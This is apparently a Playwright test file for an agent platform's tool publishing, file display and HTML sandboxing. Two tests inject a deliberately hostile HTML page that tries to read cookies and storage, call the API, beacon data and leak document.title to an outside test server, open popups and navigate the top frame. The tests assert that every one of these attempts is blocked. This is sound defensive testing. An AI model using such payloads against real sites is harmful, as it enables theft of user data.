import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type BrowserContext, expect, type Page, test } from "@playwright/test";
import type { ToolCall } from "@gatehouse/core/tool-call/tool-call";
import { browserOf, org } from "../helpers/people.ts";
import { newSession, run } from "../helpers/session-page.ts";

test.describe.configure({ mode: "serial" });

let context: BrowserContext;
let page: Page;
let session: string;
let elsewhere: Server;
let outside: string;
let reached: string[] = [];

test.beforeAll(async ({ browser }) => {
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("reached");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  outside = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  ({ context, page } = await browserOf(browser, "admin"));
  session = await newSession(page, "Shown things", "Auto");
});
test.afterAll(async () => {
  await context.close();
  elsewhere.close();
});

/** Calls a tool as the session page does and gives back the call's id. */
async function call(of: ToolCall): Promise<string> {
  const sessionId = new URL(session).pathname.split("/").at(-1);
  const view = await page.evaluate(
    async (input) => {
      const send = async (name: string, json: unknown) => {
        const body = JSON.stringify({ json });
        const headers = { "content-type": "application/json" };
        const answer = await fetch(`/api/trpc/${name}`, { method: "POST", headers, body });
        return ((await answer.json()) as { result: { data: { json: { id: string } } } }).result.data.json;
      };
      return send("toolCall.use", { ...input, requestKey: crypto.randomUUID() });
    },
    { org, sessionId, call: of },
  );
  return view.id;
}

const panel = () => page.getByRole("region", { name: "Shown by the agent" });

test("leads an admin from the first line of code to a tool in force, a new version, and back", async () => {
  await page.goto(`/${org}/script-tools`);
  await page.getByRole("link", { name: "Write a tool" }).click();
  await page.getByLabel("Name").fill("greet");
  await page.getByLabel("Description").fill("Greets somebody by name.");
  await page.getByLabel("Code", { exact: true }).fill('echo "first: $(cat)"');
  await page.getByRole("button", { name: "Save the draft" }).click();
  await page.waitForURL(`**/${org}/script-tools/script_greet`);
  await page.getByLabel("Input", { exact: true }).fill('{ "name": 1 }');
  await page.getByRole("button", { name: "Try it" }).click();
  await expect(page.getByText(/^name: /)).toBeVisible();
  await page.getByLabel("Input", { exact: true }).fill('{ "name": "Ada" }');
  await page.getByRole("button", { name: "Try it" }).click();
  const trial = page.getByRole("article", { name: /^test_tool/ });
  await expect(trial.getByRole("log")).toContainText('first: {"name":"Ada"}', { timeout: 60_000 });
  await page.getByRole("button", { name: "Publish version 1" }).click();
  await page.getByRole("button", { name: "Publish", exact: true }).click();
  await expect(page.getByText("version 1 in force")).toBeVisible();
  await page.getByLabel("Code", { exact: true }).fill('echo "second: $(cat)"');
  await expect(page.getByText("Makes version 2")).toBeVisible();
  await page.getByRole("button", { name: "Save the draft" }).click();
  await page.getByRole("button", { name: "Publish version 2" }).click();
  await page.getByRole("button", { name: "Publish", exact: true }).click();
  await expect(page.getByText("version 2 in force")).toBeVisible();
  await page.goto(session);
  await call({ tool: "script_tool", input: { name: "script_greet", arguments: { name: "Grace" } } });
  const card = page.getByRole("article", { name: /^script_greet/ });
  await expect(card).toContainText("Grace");
  await expect(card.getByRole("log")).toContainText('second: {"name":"Grace"}', { timeout: 60_000 });
  await page.goto(`/${org}/script-tools/script_greet`);
  const first = page.getByRole("list", { name: "Versions" }).getByRole("listitem").last();
  await first.getByRole("button", { name: "Put in force" }).click();
  await page.getByRole("button", { name: "Publish", exact: true }).click();
  await expect(first.getByText("in force", { exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Unpublish" }).click();
  await expect(page.getByText("not published")).toBeVisible();
});

test("shows an opened file to every watcher, remembers it, and lets each close it for themselves", async ({
  browser,
}) => {
  await page.goto(session);
  await page.getByRole("radio", { name: "Command", exact: true }).click();
  await expect(page.getByRole("article", { name: /^script_greet/ })).toBeVisible({ timeout: 60_000 });
  const written = await run(page, "printf '# Findings\\n\\n- one\\n' | tee notes.md");
  await expect(written.getByRole("log")).toContainText("Findings", { timeout: 60_000 });
  await call({ tool: "open_file", input: { path: "notes.md" } });
  await expect(panel().getByRole("heading", { name: "Findings" })).toBeVisible({ timeout: 60_000 });
  await panel().getByText("Text", { exact: true }).click();
  await expect(panel().getByRole("region", { name: "Content of notes.md" })).toContainText("# Findings");
  const other = await browserOf(browser, "approver");
  await other.page.goto(session);
  await expect(other.page.getByRole("heading", { name: "Findings" })).toBeVisible({ timeout: 60_000 });
  await other.context.close();
  await page.reload();
  await expect(panel().getByRole("heading", { name: "Findings" })).toBeVisible({ timeout: 60_000 });
  await panel().getByRole("button", { name: "Close what is shown" }).click();
  await page.reload();
  const card = page.getByRole("article", { name: /^open_file/ });
  await expect(card.getByRole("button", { name: "Show it" })).toBeVisible();
  await expect(panel()).toHaveCount(0);
  await page.setViewportSize({ width: 390, height: 844 });
  await card.getByRole("button", { name: "Show it" }).click();
  await expect(page.getByRole("dialog").getByRole("heading", { name: "Findings" })).toBeVisible();
  await page.getByRole("button", { name: "Close what is shown" }).click();
  await expect(page.getByRole("dialog")).toHaveCount(0);
  await page.setViewportSize({ width: 1280, height: 720 });
});

/** Everything a page could try, each with what came of it, written into the page itself. */
const hostile = (
  to: string,
): string => `<!doctype html><style>h1{color:rgb(1,2,3)}</style><h1>Chart</h1><ol></ol>
<form id="form" action="${to}/form" method="post"><input name="a" value="b"></form>
<img src="${to}/picture"><link rel="stylesheet" href="${to}/style"><script src="${to}/script"></script>
<iframe src="${to}/inner"></iframe><object data="${to}/object"></object><base href="${to}/">
<script>
const said = (name, what) => { const li = document.createElement("li"); li.textContent = name + ": " + what; document.querySelector("ol").append(li); };
const attempt = async (name, work) => { try { said(name, "DID " + String(await work())); } catch (error) { said(name, "no, " + error.name); } };
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => indexedDB.open("x") && "opened");
  await attempt("api", () => fetch("/api/trpc/me.get").then((answer) => answer.status));
  await attempt("outside", () => fetch("${to}/fetch", { mode: "no-cors" }).then(() => "sent"));
  await attempt("beacon", () => { if (!navigator.sendBeacon("${to}/beacon")) throw new TypeError("beacon"); return "queued"; });
  await attempt("socket", () => new Promise((resolve, reject) => { const s = new WebSocket("${to.replace("http", "ws")}/socket"); s.onopen = () => resolve("open"); s.onerror = () => reject(new TypeError("socket")); }));
  await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => resolve("ran"); w.onerror = () => reject(new TypeError("worker")); }));
  await attempt("eval", () => eval("1 + 1"));
  await attempt("popup", () => { if (window.open("${to}/popup") === null) throw new TypeError("popup"); return "opened"; });
  await attempt("top", () => { top.location = "${to}/top"; return "went"; });
  await attempt("form", () => { document.getElementById("form").submit(); return "asked"; });
  await attempt("frames", () => parent.frames[0] === window ? parent.location.href : parent.location.href);
  said("origin", self.origin);
  said("end", "reached");
})();
</script>`;

test("keeps a hostile page in its frame: no cookie, no storage, no request, no navigation, no window", async () => {
  await page.goto(session);
  reached = [];
  const windows = context.pages().length;
  await call({ tool: "html_template", input: { title: "Hostile chart", html: hostile(outside) } });
  const frame = page.frameLocator("iframe[title='Hostile chart']");
  const list = frame.getByRole("list");
  await expect(list).toContainText("end: reached", { timeout: 60_000 });
  const lines = (await list.getByRole("listitem").allTextContents()).sort();
  // a browser takes these two and drops them; that nothing came is seen at the other end
  const taken = lines.filter((line) => line.includes("DID")).map((line) => line.split(":")[0] ?? "");
  expect(taken.filter((name) => !["beacon", "form"].includes(name))).toEqual([]);
  expect(lines).toContain("origin: null");
  await expect(frame.getByRole("heading", { name: "Chart" })).toHaveCSS("color", "rgb(1, 2, 3)");
  expect(page.url()).toBe(session);
  expect(context.pages()).toHaveLength(windows);
  expect(reached).toEqual([]);
});

test("a page that leaves for elsewhere gets nowhere, with what it knows neither, and is isolated where it is opened by itself", async () => {
  await page.goto(session);
  reached = [];
  const leaving = `<p>going</p><a id="a" href="${outside}/link">x</a><meta http-equiv="refresh" content="0;url=${outside}/refresh">
<script>document.getElementById("a").click(); location.href = "${outside}/leak?" + encodeURIComponent(document.title);</script>`;
  const stopped = page.waitForEvent("console", (message) => /frame-src/.test(message.text()));
  await call({ tool: "html_template", input: { title: "Leaving", html: leaving } });
  await stopped;
  expect(page.url()).toBe(session);
  expect(reached).toEqual([]);

  const address = (await page.locator("iframe[title='Leaving']").getAttribute("src")) ?? "";
  const alone = await page.request.get(address);
  expect(alone.status()).toBe(200);
  expect(alone.headers()["content-security-policy"]).toMatch(/^sandbox allow-scripts; default-src 'none';/);
  const stranger = await context.browser()?.newContext();
  const refused = await stranger?.request.get(new URL(address, page.url()).href);
  expect(refused?.status()).toBe(404);
  await stranger?.close();
});
